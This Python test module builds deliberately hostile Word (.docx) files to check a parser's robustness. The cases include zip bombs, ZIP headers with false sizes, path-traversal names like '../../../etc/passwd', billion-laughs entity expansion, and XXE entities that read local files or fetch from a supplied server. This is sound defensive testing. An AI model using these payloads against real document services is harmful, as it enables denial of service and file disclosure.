"""Word files made to do harm: each case makes the bytes of one, given the address of a server that nobody may ask.

The parts are stored as they are, so that no ratio of packing gives them away. The suite tries each; tests/bench/hostile.py
measures them, and thousands of spoilt files.
"""

from __future__ import annotations

import copy
import random
import re
import struct
import warnings
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile

from builders import resolution
from engross.formats.docx import FORMAT
from engross.model import walk
from engross.model.places import Place, Selection
from engross.review.comments import add as remarked
from formats.docx_files import PACKAGE, SPACES, TYPE, R, W, archive, p, part, text
from formats.docx_files import docx as zipped_docx

Case = Callable[[str], bytes]

NUMBERED = p("Recalling its resolution 80/1,") + p("1. Decides to act.")
MAIN = "word/document.xml"
W14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
W15 = 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
BY = 'w:author="A" w:date="2035-01-01T00:00:00Z"'


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of a Word file by name."""
    with ZipFile(BytesIO(data)) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


def with_parts(
    files: dict[str, str | bytes], *, without: tuple[str, ...] = (), base: bytes | None = None
) -> bytes:
    """A sound file with other parts in it."""
    kept = {name: data for name, data in parts_of(base or docx(NUMBERED)).items() if name not in without}
    return archive({**kept, **files})


def with_document(content: bytes) -> bytes:
    """A file with these bytes as its text, packed as they are: no ratio tells them."""
    return packed({**parts_of(docx(NUMBERED)), MAIN: content}, ZIP_STORED)


def docx(body: str, **parts: str) -> bytes:
    return packed(parts_of(zipped_docx(body, **parts)), ZIP_STORED)


def packed(files: dict[str, bytes], method: int) -> bytes:
    """A ZIP archive packed in one way."""
    out = BytesIO()
    with ZipFile(out, "w", method) as zipped:
        for name, content in files.items():
            zipped.writestr(name, content)
    return out.getvalue()


def stored(content: str) -> bytes:
    """A file with this in its body, stored."""
    return with_document(part("document", f"<w:body>{content}</w:body>").encode())


def _relation(ident: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{ident}" Type="{R}/{kind}" Target="{target}"/>'


def _relations(rows: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'


# ------------------------------------------------------------------------------------------------ archives


def _nested_bombs() -> bytes:
    inner = archive({f"{n}.bin": b"\0" * 900_000 for n in range(20)})
    for _level in range(3):
        inner = archive({f"{n}.zip": inner for n in range(10)})
    return inner


def _with_heads(heads: int, sections: int, head: str) -> bytes:
    """Sections, each with a head: one of so many parts."""
    body = "".join(
        p("x", f'<w:sectPr><w:headerReference w:type="default" r:id="h{n % heads}"/></w:sectPr>')
        for n in range(sections)
    )
    rows = "".join(_relation(f"h{n}", "header", f"header{n}.xml") for n in range(heads))
    files = {f"word/header{n}.xml": part("hdr", head).encode() for n in range(heads)}
    relations = {"word/_rels/document.xml.rels": _relations(rows).encode()}
    return packed({**parts_of(docx(body)), **files, **relations}, ZIP_STORED)


def _lying(size: int, content: bytes) -> bytes:
    """A file whose directory says another size of its text."""
    data = bytearray(with_parts({MAIN: content}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(MAIN.encode()))
    data[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(data)


def _entries(count: int) -> bytes:
    """An archive that is little more than a directory."""
    row = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, *[0] * 8, 1, *[0] * 6) + b"a"
    start = b"PK\x03\x04" + b"\0" * 26 + b"[Content_Types].xml word/document.xml"
    size = len(row) * count
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, len(start))
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(start) + size, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return start + row * count + end64 + locator + end


def _overlapping() -> bytes:
    """Thousands of parts that are all the same bytes."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as zipped:
        zipped.writestr(MAIN, b"<a>" + b"x" * 900_000 + b"</a>")
        for number in range(4_000):
            again = copy.copy(zipped.filelist[0])
            again.filename = f"word/header{number}.xml"
            zipped.filelist.append(again)
    return out.getvalue()


def _doubled() -> bytes:
    out = BytesIO(docx(NUMBERED))
    with warnings.catch_warnings(), ZipFile(out, "a", ZIP_DEFLATED) as zipped:
        warnings.simplefilter("ignore")
        zipped.writestr(MAIN, part("document", f"<w:body>{p('2. Requests.')}</w:body>"))
    return out.getvalue()


ARCHIVES: dict[str, Case] = {
    "bomb in the text": lambda _: with_parts({MAIN: b"<w:t>" + b" " * 100_000_000}),
    "bomb in a picture": lambda _: with_parts({"word/media/image1.png": b"\0" * 100_000_000}),
    "bomb in bombs": lambda _: with_parts({"word/embeddings/oleObject1.bin": _nested_bombs()}),
    "many large heads": lambda _: _with_heads(60, 60, p("A ") * 6_000),
    "one large head in a thousand sections": lambda _: _with_heads(1, 1_000, p("A head ") * 8_000),
    "a size that lies, small": lambda _: _lying(100, b"<a>" + b"lorem ipsum" * 4_000_000 + b"</a>"),
    "a size that lies, large": lambda _: _lying(0xFFFFFFF0, b"<a/>"),
    "six thousand parts": lambda _: with_parts({f"word/part{number}.xml": b"" for number in range(6_000)}),
    "a million entries": lambda _: _entries(1_000_000),
    "entries that overlap": lambda _: _overlapping(),
    "packed by bzip2": lambda _: packed({**parts_of(docx(NUMBERED)), MAIN: b"<a>" + b" " * 50_000_000}, ZIP_BZIP2),
    "packed by lzma": lambda _: packed({**parts_of(docx(NUMBERED)), MAIN: b"<a>" + b" " * 10_000_000}, ZIP_LZMA),
    "names that climb": lambda _: with_parts({"../../../etc/passwd": b"x", "/word/document.xml": b"<a/>", "C:\\x": b""}),
    "two texts of one name": lambda _: _doubled(),
    "an empty archive": lambda _: archive({}),
    "half an archive": lambda _: docx(NUMBERED * 400)[: len(docx(NUMBERED * 400)) // 2],
    "no directory": lambda _: docx(NUMBERED).rpartition(b"PK\x05\x06")[0],
}  # fmt: skip


def _sought_in_vain(comments: int, length: int, *, is_there: bool = False) -> bytes:
    """Comments on words of a long footnote, by a part of our own; the words are others, or every comment's."""
    document = resolution(f"PP *Recalling* this,[^{'a' * (2 * length + 1_000)}]")
    _, _, note = walk.notes(document)[0]
    home = note.blocks[0].id
    for number in range(comments):
        on = Selection(Place(home, 0), Place(home, length))
        document = remarked(document, str(number), "A", "2035-01-01T00:00:00Z", on=on).document
    files = parts_of(FORMAT.write(document).data)
    own = next(name for name in files if name.startswith("customXml/item") and "Props" not in name)
    told = files[own].decode()
    if not is_there:
        told = re.sub(r'words="\w+"', 'words="0"', told)
    return packed({**files, own: told.encode()}, ZIP_STORED)


COMMENTS: dict[str, Case] = {
    "comments that look for their words in vain": lambda _: _sought_in_vain(20, 100_000),
    "many comments that look for their words in vain": lambda _: _sought_in_vain(200, 20_000),
    "a thousand comments on one word": lambda _: _sought_in_vain(1_000, 5, is_there=True),
}


# ------------------------------------------------------------------------------------------------ XML

_LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)


def _declaring(head: str, name: str = "document", words: str = "&l11;") -> str:
    content = part(name, f"<w:body>{p(text(words))}</w:body>")
    return content.replace("?>", f"?>{head}", 1)


XML: dict[str, Case] = {
    "entities that multiply": lambda _: with_parts({MAIN: _declaring(_LAUGHS)}),
    "entities that multiply, in styles": lambda _: with_parts(
        {"word/styles.xml": _declaring(_LAUGHS, "styles")}, base=docx(NUMBERED, styles=part("styles", ""))
    ),
    "entities that multiply, in relations": lambda _: with_parts(
        {"word/_rels/document.xml.rels": "<?xml version='1.0'?>" + _LAUGHS + _relations("&l11;")}
    ),
    "one entity a hundred thousand times": lambda _: with_parts({MAIN: _declaring(
        f'<!DOCTYPE w:document [<!ENTITY a "{"x" * 100_000}">]>', words="&a;" * 100_000
    )}),
    "an attribute of entities": lambda _: with_parts({MAIN: _declaring(_LAUGHS).replace("<w:p>", '<w:p w:x="&l11;">')}),
    "an entity of another file": lambda _: with_parts({MAIN: _declaring(
        '<!DOCTYPE w:document [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>'
    )}),
    "an entity of the network": lambda a: with_parts({MAIN: _declaring(
        f'<!DOCTYPE w:document [<!ENTITY l11 SYSTEM "{a}/entity">]>'
    )}),
    "a parameter entity of the network": lambda a: with_parts({MAIN: _declaring(
        f'<!DOCTYPE w:document [<!ENTITY % x SYSTEM "{a}/parameter"> %x;]>', words="x"
    )}),
    "a DTD of the network": lambda a: with_parts({MAIN: _declaring(f'<!DOCTYPE w:document SYSTEM "{a}/x.dtd">', words="x")}),
    "a schema, a style sheet and an inclusion of the network": lambda a: with_parts({MAIN: (
        f'<?xml version="1.0"?><?xml-stylesheet href="{a}/x.xsl" type="text/xsl"?>'
        f'<w:document {SPACES} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{W} {a}/x.xsd">'
        f'<w:body xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{a}/x.xml"/>{NUMBERED}</w:body></w:document>'
    )}),
    "another encoding": lambda _: with_document(
        b'<?xml version="1.0" encoding="UTF-7"?>' + part("document", "").encode("utf-7")
    ),
    "encoding of EBCDIC": lambda _: with_document(
        f'<?xml version="1.0" encoding="IBM037"?><w:document {SPACES}><w:body>{"<w:p/>" * 2_000_000}</w:body></w:document>'.encode("cp037")
    ),
    "UTF-16 of small paragraphs": lambda _: with_document(
        f'<?xml version="1.0" encoding="UTF-16"?><w:document {SPACES}><w:body>{"<w:p/>" * 1_900_000}</w:body></w:document>'.encode("utf-16")
    ),
    "four million paragraphs": lambda _: stored("<w:p/>" * 4_000_000),
    "five million elements": lambda _: stored(p("<a/>" * 5_000_000)),
    "many elements in each part": lambda _: _many_in_each(),
    "a hundred thousand attributes": lambda _: stored(
        "<w:p " + " ".join(f'w:a{n}="1"' for n in range(100_000)) + "/>" + NUMBERED
    ),
    "twenty thousand namespaces": lambda _: stored(
        "<w:p " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000)) + ">"
        + "<n0:x/>" * 20_000 + text("Decides.") + "</w:p>"
    ),
    "an attribute of nine megabytes": lambda _: stored(f'<w:p w:rsidR="{"x" * 9_000_000}">{text("1. Decides.")}</w:p>'),
    "an attribute of twenty megabytes": lambda _: stored(f'<w:p w:rsidR="{"x" * 20_000_000}">{text("1. Decides.")}</w:p>'),
    "an element’s name of a megabyte": lambda _: stored(f"<w:{'x' * 1_000_000}>{NUMBERED}</w:{'x' * 1_000_000}>"),
    "a style’s name of two megabytes": lambda _: docx(
        p("Decides.", '<w:pStyle w:val="A"/>') * 3_000,
        styles=part("styles", f'<w:style w:styleId="A" w:type="paragraph"><w:name w:val="{"aB" * 1_000_000}{random.Random(1).random()}"/></w:style>'),
    ),
    "text of nine megabytes": lambda _: stored(p("and so on, " * 800_000)),
    "white space of nine megabytes": lambda _: stored(p("a" + " " * 9_000_000 + "b")),
    "digits of two megabytes": lambda _: stored(p("1234567890" * 200_000)),
    "labels without end": lambda _: stored(p("(a) " * 500_000) + p("1. " * 500_000)),
    "roman numbers without end": lambda _: stored(p("IVXL" * 500_000) + p("Decides.")),
    "brackets without end": lambda _: stored(p("[(" * 500_000) + p("Decides.")),
    "a null and half a surrogate": lambda _: with_document(part("document", f"<w:body>{p('a&#0;b&#xD800;')}</w:body>").encode()),
}  # fmt: skip


def _many_in_each() -> bytes:
    names = ("styles", "numbering", "footnotes", "endnotes", "comments", "settings")
    kinds = {name: f"<w:{name[:4]}/>" * 1_200_000 for name in names}
    base = docx(NUMBERED, **dict.fromkeys(names, ""))
    files = {f"word/{name}.xml": part(name, content).encode() for name, content in kinds.items()}
    return packed({**parts_of(base), **files}, ZIP_STORED)


# ------------------------------------------------------------------------------------------------ nesting


def nested(open_: str, depth: int, inside: str, close: str) -> str:
    return open_ * depth + inside + close * depth


_SDT = ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>")
_BOX = ("<w:r><w:pict><w:txbxContent><w:p>", "</w:p></w:txbxContent></w:pict></w:r>")
_CHOICE = ("<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>")

NESTING: dict[str, Case] = {
    "ten thousand nested tables": lambda _: docx(nested("<w:tbl><w:tr><w:tc>", 10_000, p("x"), "</w:tc></w:tr></w:tbl>")),
    "eighty nested tables": lambda _: docx(NUMBERED + nested("<w:tbl><w:tr><w:tc>", 80, p("Decides."), "</w:tc></w:tr></w:tbl>")),
    "nested tables of many cells": lambda _: docx(_tables(11)),
    "nested controls of blocks": lambda _: docx(nested(_SDT[0], 120, NUMBERED, _SDT[1])),
    "nested controls of runs": lambda _: docx(p(nested(_SDT[0], 120, text("1. Decides."), _SDT[1]))),
    "nested insertions": lambda _: docx(p(nested(f'<w:ins w:id="1" {BY}>', 240, text("1. Decides."), "</w:ins>"))),
    "nested insertions and deletions": lambda _: docx(
        p(nested(f'<w:ins w:id="1" {BY}><w:del w:id="2" {BY}>', 120, text("1. Decides."), "</w:del></w:ins>"))
    ),
    "nested runs": lambda _: docx(p(nested("<w:r>", 240, "<w:t>1. Decides.</w:t>", "</w:r>"))),
    "nested links": lambda _: docx(p(nested('<w:hyperlink w:anchor="x">', 240, text("1. Decides."), "</w:hyperlink>"))),
    "nested unknown elements": lambda _: docx(nested("<w:x>", 240, NUMBERED, "</w:x>")),
    "nested paragraphs": lambda _: docx(nested("<w:p>", 240, text("1. Decides."), "</w:p>")),
    "nested text boxes": lambda _: docx(p(nested(_BOX[0], 50, text("1. Decides."), _BOX[1]))),
    "nested choices": lambda _: docx(p(nested(_CHOICE[0], 120, text("1. Decides."), _CHOICE[1]))),
    "choices in boxes": lambda _: docx(p(nested(
        "<mc:AlternateContent><mc:Choice>" + _BOX[0], 35, text("1. Decides."), _BOX[1] + "</mc:Choice></mc:AlternateContent>"
    ))),
    "choices that multiply": lambda _: docx(p(_choices(15))),
    "boxes that multiply": lambda _: docx(p(_boxes(12))),
    "nested fields": lambda _: docx(p(_BEGIN * 30_000 + text("1. Decides.") + _END * 30_000)),
    "fields that never end": lambda _: docx(p((_BEGIN + _SEPARATE + text("x")) * 12_000)),
    "fields with long codes": lambda _: docx(p(_BEGIN + "<w:r><w:instrText>HYPERLINK a </w:instrText></w:r>" * 20_000 + _SEPARATE + text("x"))),
    "nested section properties": lambda _: docx(NUMBERED + nested("<w:sectPr>", 240, "", "</w:sectPr>")),
    "nested formulas": lambda _: docx(p(nested("<w:oMath>", 240, text("1. Decides."), "</w:oMath>"))),
}  # fmt: skip

_BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
_SEPARATE = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
_END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _tables(depth: int) -> str:
    if depth == 0:
        return p("x")
    cell = f"<w:tc>{_tables(depth - 1)}</w:tc>"
    return f"<w:tbl><w:tr>{cell * 2}</w:tr></w:tbl>"


def _choices(depth: int) -> str:
    if depth == 0:
        return text("1. Decides.")
    inside = _choices(depth - 1)
    return f"<mc:AlternateContent><mc:Choice>{inside}</mc:Choice><mc:Fallback>{inside}</mc:Fallback></mc:AlternateContent>"


def _boxes(depth: int) -> str:
    if depth == 0:
        return text("1. Decides.")
    return (_BOX[0] + _boxes(depth - 1) + _BOX[1]) * 2


# ------------------------------------------------------------------------------------------------ what refers


def _footnotes(*notes: str) -> str:
    return part(
        "footnotes", "".join(f'<w:footnote w:id="{n}">{note}</w:footnote>' for n, note in enumerate(notes, 1))
    )


def _mark(number: int) -> str:
    return f'<w:r><w:footnoteReference w:id="{number}"/></w:r>'


def _marked(*numbers: int) -> str:
    return p(text("1. Decides.") + "".join(map(_mark, numbers)))


REFERENCES: dict[str, Case] = {
    "a note in itself": lambda _: docx(_marked(1), footnotes=_footnotes(p(text("See. ") + _mark(1)))),
    "notes in a circle": lambda _: docx(_marked(1), footnotes=_footnotes(p(text("A ") + _mark(2)), p(text("B ") + _mark(1)))),
    "a chain of notes": lambda _: docx(_marked(1), footnotes=_footnotes(*(p(text("A ") + _mark(n + 1)) for n in range(1, 2_000)))),
    "notes that multiply": lambda _: docx(
        _marked(*[1] * 10), footnotes=_footnotes(*(p(text("A ") + _mark(n + 1) * 10) for n in range(1, 12)))
    ),
    "one large note a thousand times": lambda _: docx(_marked(*[1] * 1_000), footnotes=_footnotes(p("A note, ") * 2_000)),
    "one note fifty thousand times": lambda _: docx(_marked(*[1] * 50_000), footnotes=_footnotes(p("A note."))),
    "notes of one id": lambda _: docx(_marked(1), footnotes=part("footnotes", f'<w:footnote w:id="1">{p("A")}</w:footnote>' * 30_000)),
    "relations in a circle": lambda _: with_parts({
        "word/_rels/document.xml.rels": _relations("".join(
            f'<Relationship Id="{kind}" Type="{R}/{kind}" Target="document.xml"/>'
            for kind in ("styles", "numbering", "footnotes", "comments", "settings", "header")
        )),
        "_rels/.rels": _relations(
            f'<Relationship Id="a" Type="{R}/officeDocument" Target="_rels/.rels"/>'
            f'<Relationship Id="b" Type="{R}/officeDocument" Target="word/document.xml"/>'
        ),
    }),
    "sixty thousand relations": lambda _: with_parts({"word/_rels/document.xml.rels": _relations("".join(
        f'<Relationship Id="{n}" Type="{R}/hyperlink" Target="../{"../" * 50}x{n}"/>' for n in range(60_000)
    ))}),
    "parts of the network": lambda a: with_parts({"word/_rels/document.xml.rels": _relations("".join(
        f'<Relationship Id="{kind}" Type="{R}/{kind}" Target="{a}/{kind}.xml" TargetMode="{mode}"/>'
        for kind in ("styles", "footnotes", "attachedTemplate", "image", "header", "subDocument", "frame")
        for mode in ("External", "Internal")
    ))}, base=docx(_marked(1) + p('<w:subDoc r:id="subDocument"/><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="image"/></w:pict></w:r>')
        + '<w:altChunk r:id="frame"/>')),
    "styles in a circle": lambda _: docx(p("Decides.", '<w:pStyle w:val="S1"/>') * 3_000, styles=part("styles", "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/><w:basedOn w:val="S{n % 200 + 1}"/></w:style>'
        for n in range(1, 201)
    ))),
    "a chain of twenty thousand styles": lambda _: docx(
        "".join(p("Decides.", f'<w:pStyle w:val="S{n}"/>') for n in range(1, 19_800, 2)),
        styles=part("styles", "".join(
            f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/><w:basedOn w:val="S{n + 1}"/></w:style>'
            for n in range(1, 20_001)
        )),
    ),
    "numbering in a circle": lambda _: docx(
        p("Decides.", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>') * 3_000,
        numbering=part("numbering",
            '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/><w:styleLink w:val="L"/></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'),
    ),
    "numbers without end": lambda _: docx(
        p("Decides.", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>') * 3_000,
        numbering=part("numbering",
            '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="4000"/><w:numFmt w:val="upperLetter"/>'
            f'<w:lvlText w:val="{"%1" * 3_000}"/></w:lvl></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'),
    ),
    "list numbers of one id": lambda _: docx(NUMBERED, numbering=part("numbering",
        '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"/></w:abstractNum>' * 30_000
        + '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>' * 30_000)),
    "comments that answer each other": lambda _: _comments([(n, n % 3_000 + 1) for n in range(1, 3_001)]),
    "a chain of comments": lambda _: _comments([(n, n + 1) for n in range(1, 6_000)]),
    "ranges of comments that never end": lambda _: docx(
        p("".join(f'<w:commentRangeStart w:id="{n}"/>{text("x", "<w:i/>" * (n % 2))}' for n in range(15_000))),
        comments=part("comments", "".join(f'<w:comment w:id="{n}" w:author="A">{p("c")}</w:comment>' for n in range(15_000))),
    ),
    "comments referred to without end": lambda _: docx(
        p('<w:r><w:commentReference w:id="1"/></w:r>' * 60_000 + text("1. Decides.")),
        comments=part("comments", f'<w:comment w:id="1" w:author="A">{p("c")}</w:comment>'),
    ),
    "moves without ranges": lambda _: docx("".join(
        f'<w:p><w:pPr><w:rPr><w:moveFrom w:id="{n}" w:author="A{n}"/></w:rPr></w:pPr>{text("x")}</w:p>' for n in range(9_900)
    )),
    "a change for each run": lambda _: docx(p("".join(
        f'<w:ins w:id="{n}" w:author="A{n}">{text("x ")}</w:ins>' for n in range(49_000)
    ))),
    "tracked ends of paragraphs": lambda _: docx("".join(
        f'<w:p><w:pPr><w:rPr><w:{"ins" if n % 2 else "del"} w:id="{n}" w:author="A{n % 7}"/></w:rPr></w:pPr>{text(f"{n}. x")}</w:p>'
        for n in range(9_900)
    )),
    "a change of format for each run": lambda _: docx(p("".join(
        f'<w:r><w:rPr><w:i/><w:rPrChange w:id="{n}" w:author="A{n}"><w:rPr><w:b/></w:rPr></w:rPrChange></w:rPr><w:t>x</w:t></w:r>'
        for n in range(24_500)
    ))),
    "a change of format for each paragraph": lambda _: docx("".join(
        p(f"{n}. x", f'<w:pPrChange w:id="{n}" w:author="A{n}"><w:pPr><w:pStyle w:val="x"/></w:pPr></w:pPrChange>')
        for n in range(4_900)
    )),
    "bookmarks of parts": lambda _: docx(p("".join(
        f'<w:bookmarkStart w:id="{n}" w:name="_Part{n}_body"/>' for n in range(60_000)) + text("1. Decides."))),
    "bookmarks of shapes": lambda _: docx(p(
        "".join(f'<w:bookmarkStart w:id="{n}" w:name="_Was{n}_operative_99_99"/>' for n in range(60_000)) + text("1. Decides."),
        f'<w:pPrChange w:id="1" {BY}><w:pPr/></w:pPrChange>')),
    "links to bookmarks": lambda _: docx("".join(
        p(f'<w:bookmarkStart w:id="{n}" w:name="b{n}"/>' + text(f"{n}. Decides ")
          + f'<w:hyperlink w:anchor="b{n + 1}">{text(f"paragraph {n + 1}")}</w:hyperlink>') for n in range(6_000)
    )),
    "ids used twice": lambda _: docx(
        p(f'<w:bookmarkStart w:id="1" w:name="b"/><w:ins w:id="1" {BY}>{text("1. Decides.")}</w:ins><w:bookmarkEnd w:id="1"/>') * 5_000,
        styles=part("styles", '<w:style w:styleId="A" w:type="paragraph"><w:name w:val="Normal"/></w:style>' * 20_000),
    ),
}  # fmt: skip


def _comments(pairs: list[tuple[int, int]]) -> bytes:
    comments = "".join(
        f'<w:comment w:id="{n}" w:author="A"><w:p {W14} w14:paraId="{n}"/></w:comment>' for n, _ in pairs
    )
    rows = "".join(f'<w15:commentEx w15:paraId="{n}" w15:paraIdParent="{above}"/>' for n, above in pairs)
    return docx(
        NUMBERED,
        comments=part("comments", comments),
        commentsExtended=f"<w15:commentsEx {W15}>{rows}</w15:commentsEx>",
    )


# ------------------------------------------------------------------------------------------------ tables, length


LENGTHS: dict[str, Case] = {
    "thousands of tables": lambda _: docx(NUMBERED + f"<w:tbl><w:tr><w:tc>{p('x')}</w:tc></w:tr></w:tbl>" * 9_900),
    "a table of forty thousand cells": lambda _: docx(NUMBERED + _table(200, "<w:tc>" + p("x") + "</w:tc>", 200)),
    "cells that span without end": lambda _: docx(
        NUMBERED + _table(100, '<w:tc><w:tcPr><w:gridSpan w:val="999"/></w:tcPr>' + p("x") + "</w:tc>", 100)),
    "cells that merge without end": lambda _: docx(
        NUMBERED + _table(60, "<w:tc><w:tcPr><w:vMerge/></w:tcPr>" + p("x") + "</w:tc>", 300)),
    "thousands of headings": lambda _: docx("".join(p(f"{n}.", '<w:outlineLvl w:val="0"/>') for n in range(9_900))),
    "thousands of numbered paragraphs": lambda _: docx("".join(p(f"{n}. Decides.") for n in range(9_900))),
    "fifty thousand runs": lambda _: docx(NUMBERED + p("".join(text(f"w{n % 7} ", "<w:i/>" * (n % 2)) for n in range(50_000)))),
    "sixty thousand breaks": lambda _: docx(NUMBERED + p("<w:r><w:br/></w:r>" * 60_000 + text("x"))),
    "sixty thousand tabs": lambda _: docx(NUMBERED + p("<w:r><w:tab/></w:r>" * 60_000 + text("x"))),
    "forty thousand links": lambda _: docx(p("".join(
        f'<w:hyperlink w:anchor="a{n}">{text(f"w{n} ")}</w:hyperlink>' for n in range(40_000)))),
    "thousands of empty paragraphs": lambda _: docx("<w:p/>" * 9_900 + NUMBERED),
    "organs without end": lambda _: docx(p("The General Assembly,") * 9_900),
    "titles without end": lambda _: docx(p("90/5. Clean water", '<w:pStyle w:val="Heading1"/>') * 9_900),
    "annexes without end": lambda _: docx(p("Annex") * 9_900),
    "first pages without end": lambda _: docx(
        (p("United Nations") + p("A/RES/90/5") + p("General Assembly") + p("Distr.: General") + p("90/5. Water")
         + p("The General Assembly,") + p("1. Decides;")) * 1_400),
    "sections without end": lambda _: docx(p("Decides.", "<w:sectPr><w:titlePg/></w:sectPr>") * 9_900),
    "symbols without end": lambda _: docx(p('<w:r><w:sym w:font="Symbol" w:char="F0B7"/></w:r>' * 60_000)),
    "an unknown symbol": lambda _: docx(p('<w:r><w:sym w:font="X" w:char="FFFFFFFFFFFF"/></w:r>' + text("Decides.")))
}  # fmt: skip


def _table(columns: int, cell: str, rows: int) -> str:
    return "<w:tbl>" + ("<w:tr>" + cell * columns + "</w:tr>") * rows + "</w:tbl>"


# ------------------------------------------------------------------------------------------------ parts and types


def _typed(old: bytes, new: bytes) -> bytes:
    files = parts_of(docx(NUMBERED))
    return archive({**files, "[Content_Types].xml": files["[Content_Types].xml"].replace(old, new)})


TYPES: dict[str, Case] = {
    "no content types": lambda _: with_parts({}, without=("[Content_Types].xml",)),
    "no relations": lambda _: with_parts({}, without=("_rels/.rels",)),
    "no relations of the text": lambda _: with_parts({}, without=("word/_rels/document.xml.rels",)),
    "no text": lambda _: with_parts({}, without=(MAIN,)),
    "an empty text": lambda _: with_parts({MAIN: b""}),
    "a picture as text": lambda _: with_parts({MAIN: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100}),
    "another root": lambda _: with_parts({MAIN: b"<html><body><p>x</p></body></html>"}),
    "the type of a spreadsheet": lambda _: _typed(b"wordprocessingml", b"spreadsheetml"),
    "the type of a picture": lambda _: _typed(TYPE.encode(), b"image/png"),
    "a type that is not there": lambda _: _typed(TYPE.encode(), b""),
    "content types that are none": lambda _: with_parts({"[Content_Types].xml": b"<w:t>"}),
    "relations that are none": lambda _: with_parts({"_rels/.rels": b"\xff\xfe\0", "word/_rels/document.xml.rels": b"<"}),
    "parts that are not there": lambda _: with_parts({"word/_rels/document.xml.rels": _relations("".join(
        f'<Relationship Id="{kind}" Type="{R}/{kind}" Target="{kind}.xml"/>' for kind in ("styles", "numbering", "footnotes", "comments")
    ))}, base=docx(_marked(1))),
    "the strict form, spoilt": lambda _: with_parts({MAIN: part("document", f"<w:body>{NUMBERED}</w:body>").replace(
        "schemas.openxmlformats.org/wordprocessingml/2006/main", "purl.oclc.org/ooxml/wordprocessingml/main" * 3)}),
    "parts of the wrong kind": lambda _: docx(_marked(1), **{
        name: part("document", f"<w:body>{NUMBERED}</w:body>") for name in ("styles", "numbering", "footnotes", "comments", "settings")
    }),
}  # fmt: skip


CASES = {**ARCHIVES, **COMMENTS, **XML, **NESTING, **REFERENCES, **LENGTHS, **TYPES}
